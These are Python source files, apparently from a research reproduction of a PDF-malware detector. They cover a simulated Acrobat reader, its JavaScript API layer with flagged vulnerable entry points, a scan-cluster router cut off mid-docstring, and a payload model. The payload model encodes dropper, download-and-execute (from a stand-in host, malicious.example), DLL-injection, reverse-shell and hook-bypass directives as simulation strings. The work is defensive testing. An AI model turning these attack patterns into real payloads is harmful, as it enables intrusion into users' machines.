        if name.lower().endswith(".pdf"):
            # Acrobat opens exported PDF attachments in the reader itself
            # (the embedded-PDF vector the paper's §VI discusses).
            self.open(data, name)
        else:
            self.syscall(API.NT_CREATE_USER_PROCESS, image=path, command_line=path)

    def register_timer(
        self, handle: DocumentHandle, code: str, milliseconds: float, interval: bool
    ) -> int:
        timer_id = self._next_timer_id
        self._next_timer_id += 1
        delay_s = max(0.0, milliseconds / 1000.0)
        self.timers.append(
            TimerEntry(
                timer_id=timer_id,
                due=self.clock.now() + delay_s,
                code=code,
                handle=handle,
                interval_s=delay_s if interval else 0.0,
            )
        )
        return timer_id

    def cancel_timer(self, timer_id: int) -> None:
        for timer in self.timers:
            if timer.timer_id == timer_id:
                timer.cancelled = True

    def pump(self, seconds: float = 10.0, max_fires: int = 100) -> int:
        """Advance virtual time, firing due timers. Returns fire count."""
        with self.obs.tracer.span("reader.pump", seconds=seconds) as sp:
            virtual_start = self.clock.now()
            try:
                fired = self._pump_inner(seconds, max_fires)
            finally:
                sp.set_tag("virtual_s", self.clock.now() - virtual_start)
            sp.set_tag("fired", fired)
            return fired

    def _pump_inner(self, seconds: float, max_fires: int) -> int:
        deadline = self.clock.now() + seconds
        fired = 0
        while fired < max_fires:
            pending = [
                t
                for t in self.timers
                if not t.cancelled and t.handle.open and t.due <= deadline
            ]
            if not pending:
                break
            timer = min(pending, key=lambda t: t.due)
            if timer.due > self.clock.now():
                self.clock.advance(timer.due - self.clock.now())
            if timer.interval_s > 0:
                timer.due = self.clock.now() + timer.interval_s
            else:
                timer.cancelled = True
            fired += 1
            try:
                self._execute_js(timer.handle, timer.code, label=f"timer{timer.timer_id}")
            except ReaderCrash as crash:
                self._on_crash(str(crash))
                break
        if self.clock.now() < deadline:
            self.clock.advance(deadline - self.clock.now())
        return fired

    # -- events / close ---------------------------------------------------------------

    def fire_event(self, handle: DocumentHandle, trigger: str) -> int:
        """Fire runtime-added scripts matching ``trigger``.

        Used for close/save/print/page events (Table IV).  Returns how
        many scripts ran.
        """
        count = 0
        for kind, _name, code in list(handle.runtime_scripts):
            matches = (
                kind == f"setAction:{trigger}"
                or (trigger == "Open" and kind == "addScript")
                or kind.startswith(f"setPageAction:") and kind.endswith(f":{trigger}")
                or (trigger == "bookmark" and kind == "bookmark.setAction")
            )
            if not matches:
                continue
            count += 1
            try:
                self._execute_js(handle, code, label=kind)
            except ReaderCrash as crash:
                self._on_crash(str(crash))
                break
        return count

    def close(self, handle: DocumentHandle) -> None:
        if not handle.open:
            return
        with self.obs.tracer.span("reader.close", document=handle.name):
            try:
                self.fire_event(handle, "WillClose")
            finally:
                handle.open = False
                if self._process is not None:
                    self._process.free(handle.memory_tag("render"))
                    self._process.free(handle.memory_tag("js"))

    def close_all(self) -> None:
        for handle in list(self.handles):
            self.close(handle)
        if self._process is not None and self._process.alive:
            self._process.exit()

    def _on_crash(self, reason: str) -> None:
        if self._process is not None:
            self._process.crash(reason)
        for handle in self.handles:
            if handle.open:
                handle.open = False
                handle.crashed = True

    @property
    def open_documents(self) -> List[DocumentHandle]:
        return [h for h in self.handles if h.open]


# ---------------------------------------------------------------------------
# JS <-> Python value bridging for SOAP bodies


def js_to_python(value: Any) -> Any:
    if isinstance(value, JSArray):
        return [js_to_python(v) for v in value.elements]
    if isinstance(value, JSObject):
        return {k: js_to_python(v) for k, v in value.properties.items()}
    if value is UNDEFINED:
        return None
    if isinstance(value, float) and value.is_integer():
        return value
    return value


def python_to_js(value: Any) -> Any:
    if isinstance(value, dict):
        obj = JSObject()
        for key, item in value.items():
            obj.set(str(key), python_to_js(item))
        return obj
    if isinstance(value, (list, tuple)):
        return JSArray([python_to_js(v) for v in value])
    if isinstance(value, bool):
        return value
    if isinstance(value, (int, float)):
        return float(value)
    if value is None:
        return UNDEFINED
    return value
