"""The Acrobat JavaScript object model.

Installs ``app``, ``util``, ``Collab``, ``SOAP``, ``Net`` and the
document object (``this``) into an interpreter, bound to a
:class:`DocBinding` the reader provides.  Everything the paper's
instrumentation and the corpus rely on is here:

* the vulnerable entry points that dispatch into the exploit registry
  (``Collab.collectEmailInfo``, ``util.printf``, ``media.newPlayer``,
  ``Collab.getIcon``, ``printSeps``, ``getAnnots``);
* ``SOAP.request`` — the channel the context monitoring code uses;
* ``Net.HTTP`` which throws inside documents (why the paper picked SOAP);
* the Table IV runtime-script methods (``addScript``, ``setAction``,
  ``setPageAction``, ``bookmarkRoot...setAction``) and the delayed
  execution pair (``app.setTimeOut`` / ``app.setInterval``);
* ``this.info.*`` document metadata (attackers hide shellcode there);
* ``exportDataObject`` (embedded-file droppers).

All objects are plain :class:`~repro.js.values.JSObject` instances, so
attacker *or* monitoring JavaScript can overwrite methods — the staged
and delayed-execution countermeasures depend on exactly that.
"""

from __future__ import annotations

from typing import Any, List, Protocol

from repro.js.errors import JSThrow
from repro.js.interpreter import Interpreter
from repro.js.values import JSArray, JSObject, NativeFunction, UNDEFINED, to_number, to_string


class DocBinding(Protocol):
    """What the reader exposes to the Acrobat API layer."""

    reader_version: str

    def alert(self, message: str) -> None: ...

    def vulnerable_api_called(self, api_path: str, args: List[Any]) -> None: ...

    def soap_request(self, url: str, request: Any) -> Any: ...

    def net_connect_attempt(self, host: str, port: int) -> None: ...

    def set_timeout(self, code: str, milliseconds: float, interval: bool) -> int: ...

    def clear_timeout(self, timer_id: int) -> None: ...

    def add_runtime_script(self, kind: str, name: str, code: str) -> None: ...

    def export_data_object(self, name: str, launch: int) -> None: ...

    def launch_external(self, application: str, argument: str) -> None: ...

    def doc_info(self) -> dict: ...

    def doc_metadata(self) -> dict: ...


def _arg(args: List[Any], index: int, default: Any = UNDEFINED) -> Any:
    return args[index] if index < len(args) else default


def _option(value: Any, key: str, default: Any = UNDEFINED) -> Any:
    """Read ``{cName: ...}``-style keyword objects Acrobat APIs take."""
    if isinstance(value, JSObject):
        found = value.get(key)
        if found is not UNDEFINED:
            return found
    return default


def build_acrobat_environment(interp: Interpreter, binding: DocBinding) -> JSObject:
    """Install the Acrobat globals; returns the document object (``this``)."""
    doc = _build_doc_object(interp, binding)
    interp.define_global("app", _build_app_object(interp, binding))
    interp.define_global("util", _build_util_object(interp, binding))
    interp.define_global("Collab", _build_collab_object(interp, binding))
    interp.define_global("SOAP", _build_soap_object(interp, binding))
    interp.define_global("Net", _build_net_object(interp, binding))
    interp.define_global("event", JSObject({"name": "Open", "type": "Doc"}))
    interp.define_global("this", doc)
    interp.global_this = doc
    return doc


# ---------------------------------------------------------------------------
# app


def _build_app_object(interp: Interpreter, binding: DocBinding) -> JSObject:
    app = JSObject(class_name="app")
    app.set("viewerVersion", float(binding.reader_version.split(".")[0]))
    app.set("viewerType", "Exchange-Pro")
    app.set("platform", "WIN")
    app.set(
        "alert",
        NativeFunction(
            "alert",
            lambda i, t, a: binding.alert(
                to_string(_option(_arg(a, 0), "cMsg", _arg(a, 0, "")))
            ),
        ),
    )
    app.set("beep", NativeFunction("beep", lambda i, t, a: UNDEFINED))

    def _set_time_out(i: Interpreter, t: Any, a: List[Any]) -> float:
        code = to_string(_arg(a, 0, ""))
        delay = to_number(_arg(a, 1, 0.0))
        return float(binding.set_timeout(code, delay, interval=False))

    def _set_interval(i: Interpreter, t: Any, a: List[Any]) -> float:
        code = to_string(_arg(a, 0, ""))
        delay = to_number(_arg(a, 1, 0.0))
        return float(binding.set_timeout(code, delay, interval=True))

    app.set("setTimeOut", NativeFunction("setTimeOut", _set_time_out))
    app.set("setInterval", NativeFunction("setInterval", _set_interval))
    app.set(
        "clearTimeOut",
        NativeFunction(
            "clearTimeOut",
            lambda i, t, a: binding.clear_timeout(int(to_number(_arg(a, 0, 0.0)))),
        ),
    )
    app.set(
        "clearInterval",
        NativeFunction(
            "clearInterval",
            lambda i, t, a: binding.clear_timeout(int(to_number(_arg(a, 0, 0.0)))),
        ),
    )
    # launchURL / mailMsg go through third-party applications (browser,
    # mail client) which the runtime detector does NOT monitor (§III-D).
    app.set(
        "launchURL",
        NativeFunction(
            "launchURL",
            lambda i, t, a: binding.launch_external("browser", to_string(_arg(a, 0, ""))),
        ),
    )
    app.set(
        "mailMsg",
        NativeFunction(
            "mailMsg",
            lambda i, t, a: binding.launch_external("mail", to_string(_option(_arg(a, 0), "cTo", ""))),
        ),
    )
    app.set("plugIns", JSArray([]))
    return app


# ---------------------------------------------------------------------------
# util / Collab / SOAP / Net


def _printf_format(fmt: str, args: List[Any]) -> str:
    out: List[str] = []
    arg_index = 0
    i = 0
    while i < len(fmt):
        ch = fmt[i]
        if ch != "%":
            out.append(ch)
            i += 1
            continue
        j = i + 1
        while j < len(fmt) and fmt[j] in "0123456789.,+- ":
            j += 1
        if j < len(fmt) and fmt[j] in "dfsxe":
            conv = fmt[j]
            value = args[arg_index] if arg_index < len(args) else UNDEFINED
            arg_index += 1
            if conv == "d":
                out.append(str(int(to_number(value)) if to_number(value) == to_number(value) else 0))
            elif conv in "fe":
                out.append(str(to_number(value)))
            elif conv == "x":
                out.append(format(int(to_number(value)), "x"))
            else:
                out.append(to_string(value))
            i = j + 1
        else:
            out.append(ch)
            i += 1
    return "".join(out)


def _build_util_object(interp: Interpreter, binding: DocBinding) -> JSObject:
    util = JSObject(class_name="util")

    def _printf(i: Interpreter, t: Any, a: List[Any]) -> str:
        fmt = to_string(_arg(a, 0, ""))
        binding.vulnerable_api_called("util.printf", [fmt] + list(a[1:]))
        return i._record_string(_printf_format(fmt, list(a[1:])))

    util.set("printf", NativeFunction("printf", _printf))
    util.set(
        "printd",
        NativeFunction("printd", lambda i, t, a: to_string(_arg(a, 1, ""))),
    )
    util.set(
        "byteToChar",
        NativeFunction(
            "byteToChar", lambda i, t, a: chr(int(to_number(_arg(a, 0, 0.0))) & 0xFF)
        ),
    )
    return util


def _build_collab_object(interp: Interpreter, binding: DocBinding) -> JSObject:
    collab = JSObject(class_name="Collab")

    def _collect_email_info(i: Interpreter, t: Any, a: List[Any]) -> Any:
        msg = _option(_arg(a, 0), "msg", _arg(a, 0, ""))
        binding.vulnerable_api_called("Collab.collectEmailInfo", [to_string(msg)])
        return UNDEFINED

    def _get_icon(i: Interpreter, t: Any, a: List[Any]) -> Any:
        binding.vulnerable_api_called("Collab.getIcon", [to_string(_arg(a, 0, ""))])
        return UNDEFINED

    collab.set("collectEmailInfo", NativeFunction("collectEmailInfo", _collect_email_info))
    collab.set("getIcon", NativeFunction("getIcon", _get_icon))
    return collab


def _build_soap_object(interp: Interpreter, binding: DocBinding) -> JSObject:
    soap = JSObject(class_name="SOAP")

    def _request(i: Interpreter, t: Any, a: List[Any]) -> Any:
        params = _arg(a, 0)
        url = to_string(_option(params, "cURL", ""))
        request = _option(params, "oRequest", UNDEFINED)
        return binding.soap_request(url, request)

    def _connect(i: Interpreter, t: Any, a: List[Any]) -> Any:
        url = to_string(_arg(a, 0, ""))
        return binding.soap_request(url, UNDEFINED)

    soap.set("request", NativeFunction("request", _request))
    soap.set("connect", NativeFunction("connect", _connect))
    return soap


def _build_net_object(interp: Interpreter, binding: DocBinding) -> JSObject:
    net = JSObject(class_name="Net")

    def _http_request(i: Interpreter, t: Any, a: List[Any]) -> Any:
        # "The Net.HTTP method can be invoked only outside of a document"
        # (§III-C, citing [20]) — inside a document it raises.
        raise JSThrow("NotAllowedError: Security settings prevent access to Net.HTTP")

    http = JSObject(class_name="Net.HTTP")
    http.set("request", NativeFunction("request", _http_request))
    net.set("HTTP", http)
    return net


# ---------------------------------------------------------------------------
# the document object (``this``)


def _build_doc_object(interp: Interpreter, binding: DocBinding) -> JSObject:
    doc = JSObject(class_name="Doc")
    info = JSObject(class_name="Info")
    for key, value in binding.doc_info().items():
        info.set(key, value)
        info.set(key.lower(), value)
    doc.set("info", info)
    for key, value in binding.doc_metadata().items():
        doc.set(key, value)

    def _add_script(i: Interpreter, t: Any, a: List[Any]) -> Any:
        name = to_string(_arg(a, 0, ""))
        code = to_string(_arg(a, 1, ""))
        binding.add_runtime_script("addScript", name, code)
        return UNDEFINED

    def _set_action(i: Interpreter, t: Any, a: List[Any]) -> Any:
        trigger = to_string(_arg(a, 0, "WillClose"))
        code = to_string(_arg(a, 1, ""))
        binding.add_runtime_script(f"setAction:{trigger}", trigger, code)
        return UNDEFINED

    def _set_page_action(i: Interpreter, t: Any, a: List[Any]) -> Any:
        page = int(to_number(_arg(a, 0, 0.0)))
        trigger = to_string(_arg(a, 1, "Open"))
        code = to_string(_arg(a, 2, ""))
        binding.add_runtime_script(f"setPageAction:{page}:{trigger}", trigger, code)
        return UNDEFINED

    doc.set("addScript", NativeFunction("addScript", _add_script))
    doc.set("setAction", NativeFunction("setAction", _set_action))
    doc.set("setPageAction", NativeFunction("setPageAction", _set_page_action))

    def _get_annots(i: Interpreter, t: Any, a: List[Any]) -> Any:
        binding.vulnerable_api_called("getAnnots", [to_string(_arg(a, 0, ""))])
        return JSArray([])

    doc.set("getAnnots", NativeFunction("getAnnots", _get_annots))
    doc.set("syncAnnotScan", NativeFunction("syncAnnotScan", lambda i, t, a: UNDEFINED))

    def _print_seps(i: Interpreter, t: Any, a: List[Any]) -> Any:
        binding.vulnerable_api_called("printSeps", list(a))
        return UNDEFINED

    doc.set("printSeps", NativeFunction("printSeps", _print_seps))

    media = JSObject(class_name="Doc.media")

    def _new_player(i: Interpreter, t: Any, a: List[Any]) -> Any:
        binding.vulnerable_api_called("media.newPlayer", [to_string(_arg(a, 0, ""))])
        return None  # the CVE-2009-4324 idiom: newPlayer(null) then use-after-free

    media.set("newPlayer", NativeFunction("newPlayer", _new_player))
    doc.set("media", media)

    def _export_data_object(i: Interpreter, t: Any, a: List[Any]) -> Any:
        params = _arg(a, 0)
        name = to_string(_option(params, "cName", _arg(a, 0, "attachment")))
        launch = int(to_number(_option(params, "nLaunch", 0.0)))
        binding.export_data_object(name, launch)
        return UNDEFINED

    doc.set("exportDataObject", NativeFunction("exportDataObject", _export_data_object))
    doc.set(
        "createDataObject",
        NativeFunction("createDataObject", lambda i, t, a: UNDEFINED),
    )
    doc.set(
        "getField",
        NativeFunction("getField", lambda i, t, a: JSObject({"value": ""})),
    )

    bookmark_root = JSObject(class_name="Bookmark")

    def _bookmark_set_action(i: Interpreter, t: Any, a: List[Any]) -> Any:
        code = to_string(_arg(a, 0, ""))
        binding.add_runtime_script("bookmark.setAction", "bookmark", code)
        return UNDEFINED

    bookmark_root.set("setAction", NativeFunction("setAction", _bookmark_set_action))
    bookmark_root.set("children", JSArray([]))
    doc.set("bookmarkRoot", bookmark_root)
    return doc
