"""Shellcode payload model.

Real shellcode is machine code found on the sprayed heap; what the
paper's detector observes is the *sequence of hooked API calls* that
code makes (drop, download, execute, inject, egg-hunt, reverse shell).
We therefore encode a payload as a directive block embedded in the
sprayed string, behind the NOP sled:

    <sled><sled>...[[PAYLOAD|drop:C:\\tmp\\a.exe;exec:C:\\tmp\\a.exe]]

After a successful control-flow hijack the reader "lands" in the sled,
slides into the directive block, and executes each directive through
the syscall gateway — which is where the hooks see them.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field
from typing import Iterable, List, Optional

#: One NOP (0x90 0x90 as a UTF-16 unit, what unescape("%u9090") yields).
NOP = "邐"

PAYLOAD_OPEN = "[[PAYLOAD|"
PAYLOAD_CLOSE = "]]"
_PAYLOAD_RE = re.compile(r"\[\[PAYLOAD\|(.*?)\]\]", re.DOTALL)

#: Directive verbs.
OP_DROP = "drop"        # drop:<path>            -> NtCreateFile
OP_DOWNLOAD = "url"     # url:<url>><path>       -> connect + URLDownloadToFile
OP_EXEC = "exec"        # exec:<path>            -> NtCreateUserProcess
OP_INJECT = "inject"    # inject:<dll>           -> CreateRemoteThread
OP_EGGHUNT = "egghunt"  # egghunt:<path>         -> memory-search probes + drop + exec
OP_SHELL = "shell"      # shell:<port>           -> listen (reverse bind shell)
OP_BADJUMP = "badjump"  # badjump:               -> hijack lands badly: crash
OP_STEALTH = "stealth"  # stealth:<path>         -> drop+exec via direct kernel
                        #                           calls (bypasses IAT hooks)

KNOWN_OPS = (
    OP_DROP, OP_DOWNLOAD, OP_EXEC, OP_INJECT, OP_EGGHUNT, OP_SHELL,
    OP_BADJUMP, OP_STEALTH,
)


@dataclass(frozen=True)
class PayloadOp:
    verb: str
    argument: str = ""

    def render(self) -> str:
        return f"{self.verb}:{self.argument}" if self.argument else f"{self.verb}:"


@dataclass
class Payload:
    """An ordered list of directives."""

    ops: List[PayloadOp] = field(default_factory=list)

    def render(self) -> str:
        """Serialize to the on-heap directive block."""
        return PAYLOAD_OPEN + ";".join(op.render() for op in self.ops) + PAYLOAD_CLOSE

    def with_sled(self, sled_units: int = 64) -> str:
        return NOP * sled_units + self.render()

    @property
    def crashes_on_landing(self) -> bool:
        return any(op.verb == OP_BADJUMP for op in self.ops)

    # -- convenience constructors ---------------------------------------

    @classmethod
    def dropper(cls, path: str = "C:\\Temp\\update.exe") -> "Payload":
        return cls([PayloadOp(OP_DROP, path), PayloadOp(OP_EXEC, path)])

    @classmethod
    def downloader(
        cls,
        url: str = "http://malicious.example/stage2.exe",
        path: str = "C:\\Temp\\stage2.exe",
    ) -> "Payload":
        return cls(
            [PayloadOp(OP_DOWNLOAD, f"{url}>{path}"), PayloadOp(OP_EXEC, path)]
        )

    @classmethod
    def dll_injector(cls, dll: str = "C:\\Temp\\hook_evil.dll") -> "Payload":
        return cls([PayloadOp(OP_DROP, dll), PayloadOp(OP_INJECT, dll)])

    @classmethod
    def egg_hunter(cls, path: str = "C:\\Temp\\egg.exe") -> "Payload":
        return cls([PayloadOp(OP_EGGHUNT, path), PayloadOp(OP_EXEC, path)])

    @classmethod
    def reverse_shell(cls, port: int = 4444) -> "Payload":
        return cls([PayloadOp(OP_SHELL, str(port))])

    @classmethod
    def bad_jump(cls) -> "Payload":
        """A payload whose hijack always crashes the reader (the 25
        false negatives of §V-C2)."""
        return cls([PayloadOp(OP_BADJUMP)])

    @classmethod
    def stealth_dropper(cls, path: str = "C:\\Temp\\ghost.exe") -> "Payload":
        """Drops and launches via direct kernel calls, never touching
        the import table — the §III-E IAT-bypass adversary."""
        return cls([PayloadOp(OP_STEALTH, path)])


def parse_payload(heap_strings: Iterable[str]) -> Optional[Payload]:
    """Scan heap strings for a directive block; first match wins."""
    for text in heap_strings:
        match = _PAYLOAD_RE.search(text)
        if match is None:
            continue
        ops: List[PayloadOp] = []
        for chunk in match.group(1).split(";"):
            chunk = chunk.strip()
            if not chunk:
                continue
            verb, _, argument = chunk.partition(":")
            if verb in KNOWN_OPS:
                ops.append(PayloadOp(verb, argument))
        if ops:
            return Payload(ops)
    return None
