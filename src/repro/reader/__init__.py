"""Simulated single-threaded PDF reader.

Models the observable behaviour of Adobe Acrobat 8/9 that the paper's
back-end watches: document open triggers (Names-tree scripts,
``/OpenAction``, ``/AA``), JavaScript execution through
:mod:`repro.js` with the Acrobat object model, a version-gated exploit
registry, the heap-spray → control-flow-hijack → shellcode-payload
infection model (including crashes on failed hijacks), per-document
render memory (Fig. 8's context-free memory curves), timers
(``app.setTimeOut``) and runtime-added scripts (Table IV).
"""

from repro.reader.exploits import CVE, ExploitRegistry, ExploitSpec, default_registry
from repro.reader.payload import Payload, PayloadOp, parse_payload
from repro.reader.reader import DocumentHandle, OpenOutcome, Reader

__all__ = [
    "CVE",
    "DocumentHandle",
    "ExploitRegistry",
    "ExploitSpec",
    "OpenOutcome",
    "Payload",
    "PayloadOp",
    "Reader",
    "default_registry",
    "parse_payload",
]
