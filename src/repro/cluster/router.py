"""The cluster front router (``repro.cluster.router``).

:class:`ClusterRouter` fans one host's scan traffic out over N shard
processes.  It duck-types the :class:`~repro.serve.app.ScanService`
method surface (``handle_scan`` / ``handle_batch`` /
``handle_async_submit`` / ``handle_job_status`` / ``health`` /
``metrics`` / ``metrics_prometheus`` / ``debug_slow`` / ``start`` /
``drain``), so the existing HTTP layer
(:func:`repro.serve.http.start_server`) serves a cluster without
changing a line — the router *is* a scan service whose workers happen
to be processes.

Routing
-------
Requests are keyed by the document's SHA-256 digest on a consistent-
hash ring (:mod:`repro.cluster.ring`).  Digest affinity gives each
shard's verdict cache exactly its hash range; ring stability means a
dead shard only spills its own range onto ring successors while it
restarts.

Failure semantics (the contract the fault-injection suite enforces)
-------------------------------------------------------------------
* **Shard unreachable before the request is sent** — nothing executed;
  the router silently re-routes to the next live shard on the ring and
  marks the shard for respawn.
* **Connection breaks mid-request** (SIGKILL mid-scan) — the response
  is lost and the scan may have partially run; the router answers a
  structured ``503`` with ``reason: "shard-failure"`` and a
  ``Retry-After`` hint (at-most-once; clients retry idempotently by
  digest), marks the shard dead — immediately shrinking the live set —
  and respawns it in the background.
* **Wedged shard** — the supervisor probes ``health`` every
  ``probe_interval`` seconds; a probe timeout, a dead process, or
  ``abandoned_workers >= wedge_threshold`` (the serve layer's hung-
  worker accounting) triggers drain + respawn: SIGTERM (graceful
  drain), a short join, then SIGKILL.  Respawn bumps the shard's
  generation, which also invalidates its process-local async jobs —
  polls for them get a structured 404 ``reason: "shard-restarted"``.

Deadlines propagate downward, never upward: the router's per-request
budget rides the ``deadline_left`` seam into the shard's admission
ticket (:func:`repro.limits.merge_deadlines`), so an abandoned router
request cannot keep burning a shard worker.
"""

from __future__ import annotations

import base64
import concurrent.futures as cf
import multiprocessing as mp
import re
import threading
import time
from dataclasses import dataclass, field, replace
from typing import Any, Dict, List, Optional, Sequence, Set, Tuple

from repro import obs as obs_mod
from repro.batch.cache import content_digest
from repro.batch.scanner import DEFAULT_BACKEND, _settings_fingerprint
from repro.cluster.cache import (
    KIND_DISK,
    KIND_SERVER,
    CacheSpec,
    run_cache_server,
)
from repro.cluster.ring import DEFAULT_REPLICAS, HashRing
from repro.cluster.transport import Address, TransportError, request
from repro.cluster.worker import ShardConfig, decode_result, run_shard
from repro.core.pipeline import PipelineSettings
from repro.limits import merge_deadlines
from repro.obs.metrics import Metrics
from repro.serve.app import HANG_GRACE_SECONDS, ServeResult

#: Shard lifecycle states.
SHARD_LIVE = "live"
SHARD_DEAD = "dead"
SHARD_RESTARTING = "restarting"
SHARD_STOPPED = "stopped"

#: Cluster-level shed/failure reasons (stable strings, like the serve
#: layer's shed vocabulary).
REASON_SHARD_FAILURE = "shard-failure"
REASON_NO_LIVE_SHARDS = "no-live-shards"
REASON_ROUTER_DEADLINE = "router-deadline"
REASON_DRAINING = "draining"
REASON_BAD_JOB_ID = "bad-job-id"
REASON_SHARD_RESTARTED = "shard-restarted"
REASON_UNKNOWN_JOB = "unknown-job"

_JOB_TOKEN = re.compile(r"^s(\d+)\.g(\d+)\.(.+)$")

_LATENCY_BUCKETS = (0.005, 0.01, 0.05, 0.1, 0.5, 1, 5, 30)


@dataclass(frozen=True)
class ClusterConfig:
    """Tuning knobs for one :class:`ClusterRouter`."""

    #: Worker shard processes.
    shards: int = 4
    #: Scan workers inside each shard.
    shard_jobs: int = 2
    #: Worker backend *inside* a shard ("thread"/"process").
    backend: str = DEFAULT_BACKEND
    #: Per-shard admission queue depth.
    queue_depth: int = 16
    #: Per-shard concurrent scans (defaults to ``shard_jobs``).
    max_in_flight: Optional[int] = None
    #: Router-level per-request deadline (queue wait + scan + hops).
    deadline_seconds: Optional[float] = 30.0
    #: ``Retry-After`` hint on router-level 503s.
    retry_after_seconds: float = 1.0
    #: Per-shard async-backlog cap (None = shard default).
    max_pending_async: Optional[int] = None
    #: Hung-worker grace inside shards (see ``repro.serve``).
    hang_grace: float = HANG_GRACE_SECONDS
    #: Supervisor probe cadence / per-probe timeout.
    probe_interval: float = 0.5
    probe_timeout: float = 2.0
    #: ``abandoned_workers`` at or above this marks a shard wedged.
    wedge_threshold: int = 1
    #: Virtual ring points per shard.
    replicas: int = DEFAULT_REPLICAS
    #: Seconds to wait for a shard process to report its port.
    spawn_timeout: float = 60.0
    #: Seconds a SIGTERMed shard gets to drain before SIGKILL.
    terminate_grace: float = 2.0
    #: Collect per-shard obs metrics (MemorySink in each shard).
    shard_metrics: bool = False

    def __post_init__(self) -> None:
        if self.shards < 1:
            raise ValueError("shards must be >= 1")
        if self.probe_interval <= 0 or self.probe_timeout <= 0:
            raise ValueError("probe interval/timeout must be positive")


@dataclass
class ShardHandle:
    """Router-side record of one shard process."""

    shard_id: int
    state: str = SHARD_RESTARTING
    generation: int = 0
    respawns: int = 0
    process: Optional[Any] = None
    address: Optional[Address] = None
    #: Last health payload the supervisor saw (introspection only).
    last_health: Optional[Dict[str, Any]] = None
    lock: threading.Lock = field(default_factory=threading.Lock)

    def snapshot(self) -> Dict[str, Any]:
        out: Dict[str, Any] = {
            "shard": self.shard_id,
            "state": self.state,
            "generation": self.generation,
            "respawns": self.respawns,
        }
        if self.process is not None:
            out["pid"] = self.process.pid
        if self.last_health is not None:
            out["health"] = self.last_health
        return out


class ClusterRouter:
    """Consistent-hash front router over shard processes.

    Construct, :meth:`start` (forks the fleet), then call the
    ``handle_*`` surface directly or mount it behind
    :func:`repro.serve.http.start_server`.  :meth:`drain` is terminal,
    like the single-process service's.
    """

    def __init__(
        self,
        settings: Optional[PipelineSettings] = None,
        config: Optional[ClusterConfig] = None,
        cache: Optional[CacheSpec] = None,
        obs: Optional[obs_mod.Observability] = None,
        wedge_marker: Optional[str] = None,
        wedge_seconds: float = 30.0,
    ) -> None:
        self.settings = settings if settings is not None else PipelineSettings()
        self.config = config if config is not None else ClusterConfig()
        self.cache_spec = cache if cache is not None else CacheSpec()
        self.obs = obs if obs is not None else obs_mod.get_default()
        self._wedge_marker = wedge_marker
        self._wedge_seconds = wedge_seconds
        self.ring = HashRing(
            range(self.config.shards), replicas=self.config.replicas
        )
        self.shards: List[ShardHandle] = [
            ShardHandle(shard_id=i) for i in range(self.config.shards)
        ]
        self.started_at = time.time()
        self._started = False
        self._drained = False
        self._lock = threading.Lock()  # guards state flips + counters
        self._counters: Dict[str, Any] = {
            "requests": 0,
            "by_status": {},
            "by_shard": {},
            "reroutes": 0,
            "shard_failures": 0,
            "respawns": {},
        }
        self._supervisor: Optional[threading.Thread] = None
        self._stop_probing = threading.Event()
        self._cache_process: Optional[Any] = None
        try:
            # Forked shards skip re-importing the tree (~0.2 s each);
            # platforms without fork (Windows/macOS-spawn) still work,
            # just boot slower.
            self._mp = mp.get_context("fork")
        except ValueError:  # pragma: no cover - non-fork platforms
            self._mp = mp.get_context()

    # -- lifecycle ---------------------------------------------------------

    def start(self) -> "ClusterRouter":
        with self._lock:
            if self._drained:
                raise RuntimeError(
                    "cluster has been drained; build a new ClusterRouter"
                )
            if self._started:
                return self
            self._started = True
        self._start_cache_server()
        for handle in self.shards:
            self._spawn(handle)
        self._supervisor = threading.Thread(
            target=self._probe_loop, name="repro-cluster-supervisor",
            daemon=True,
        )
        self._supervisor.start()
        return self

    def drain(self, timeout: Optional[float] = 30.0) -> bool:
        """Terminal shutdown: stop probing, drain every shard, reap."""
        with self._lock:
            if self._drained:
                return True
            self._drained = True
        self._stop_probing.set()
        if self._supervisor is not None:
            self._supervisor.join(timeout=5.0)
        per_shard = None
        if timeout is not None:
            per_shard = max(1.0, timeout / max(1, len(self.shards)))
        clean = True
        for handle in self.shards:
            clean &= self._stop_shard(handle, per_shard)
        self._stop_cache_server()
        return clean

    def _stop_shard(self, handle: ShardHandle, timeout: Optional[float]) -> bool:
        with handle.lock:
            handle.state = SHARD_STOPPED
            process, address = handle.process, handle.address
        if process is None:
            return True
        if address is not None:
            try:
                request(
                    address,
                    {"op": "shutdown", "drain_timeout": timeout},
                    timeout=self.config.probe_timeout,
                )
            except TransportError:
                pass
        process.join(timeout=timeout if timeout is not None else 30.0)
        if process.is_alive():
            process.terminate()
            process.join(timeout=self.config.terminate_grace)
        if process.is_alive():
            process.kill()
            process.join(timeout=5.0)
            return False
        return True

    # -- shard process management -----------------------------------------

    def _shard_config(self, handle: ShardHandle) -> ShardConfig:
        spec = self.cache_spec
        if spec.kind == KIND_SERVER and spec.address is None:
            raise RuntimeError("cache server address not resolved yet")
        if spec.kind == KIND_DISK and spec.path is not None:
            # One file per shard: hash ranges are disjoint, so sharing
            # a file would only serialise writers for no extra hits.
            spec = replace(spec, path=f"{spec.path}.shard{handle.shard_id}")
        return ShardConfig(
            shard_id=handle.shard_id,
            settings=self.settings,
            jobs=self.config.shard_jobs,
            backend=self.config.backend,
            queue_depth=self.config.queue_depth,
            max_in_flight=self.config.max_in_flight,
            deadline_seconds=self.config.deadline_seconds,
            retry_after_seconds=self.config.retry_after_seconds,
            max_pending_async=self.config.max_pending_async,
            hang_grace=self.config.hang_grace,
            cache=spec,
            metrics=self.config.shard_metrics,
            wedge_marker=self._wedge_marker,
            wedge_seconds=self._wedge_seconds,
        )

    def _spawn(self, handle: ShardHandle) -> None:
        """Fork one shard and wait for its listening address.

        Caller must hold ``handle.lock`` or be the only thread that can
        see the handle (initial start).
        """
        parent, child = self._mp.Pipe(duplex=False)
        process = self._mp.Process(
            target=run_shard,
            args=(self._shard_config(handle), child),
            name=f"repro-shard-{handle.shard_id}",
            # Daemonic processes cannot fork children, which a shard
            # running the "process" worker backend must do.
            daemon=(self.config.backend != "process"),
        )
        process.start()
        child.close()
        if not parent.poll(self.config.spawn_timeout):
            process.kill()
            raise RuntimeError(
                f"shard {handle.shard_id} did not report within "
                f"{self.config.spawn_timeout:g}s"
            )
        message = parent.recv()
        parent.close()
        if isinstance(message, dict):
            process.join(timeout=5.0)
            raise RuntimeError(
                f"shard {handle.shard_id} failed to start: "
                f"{message.get('error')}"
            )
        host, port = message
        handle.process = process
        handle.address = (host, int(port))
        handle.state = SHARD_LIVE
        self._set_shard_gauges()

    def _shard_failed(
        self, handle: ShardHandle, expected_generation: int, reason: str
    ) -> None:
        """Mark a live shard dead and respawn it in the background.

        Idempotent per generation: concurrent request threads and the
